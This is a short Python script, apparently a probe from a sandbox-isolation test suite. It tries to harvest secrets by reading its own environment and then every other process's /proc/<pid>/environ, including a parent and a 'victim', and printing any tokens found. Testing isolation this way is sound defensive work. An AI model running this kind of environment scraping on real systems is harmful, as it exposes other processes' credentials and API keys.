# Tries: to read the environment of other processes.
# Success: a secret of the host is printed.
import os

import host

host.print_tokens(open("/proc/self/environ", "rb").read())
host.print_tokens(repr(dict(os.environ)).encode())
for pid in [*os.listdir("/proc"), str(os.getppid()), str(host.PARENT), str(host.VICTIM)]:
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            text = open(f"/proc/{pid}/environ", "rb").read()
            host.print_tokens(text)
        except OSError:
            pass
